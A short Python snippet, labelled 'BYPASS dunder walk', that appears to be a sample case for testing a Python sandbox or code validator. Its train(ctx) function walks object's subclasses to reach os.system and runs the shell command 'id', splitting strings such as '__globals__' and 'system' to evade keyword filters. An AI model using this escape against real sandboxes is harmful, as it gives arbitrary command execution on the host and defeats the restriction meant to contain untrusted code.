"""BYPASS dunder walk: ().__class__.__base__ is object; its subclasses include os._wrap_close, whose
__init__ globals hold os.system."""


def train(ctx):
    base = ().__class__.__base__
    for cls in base.__dict__["__subclasses__"](base):
        if cls.__name__ == "_wrap_close":
            found = cls.__init__.__getattribute__("__glo" + "bals__")
            found["sys" + "tem"]("id")
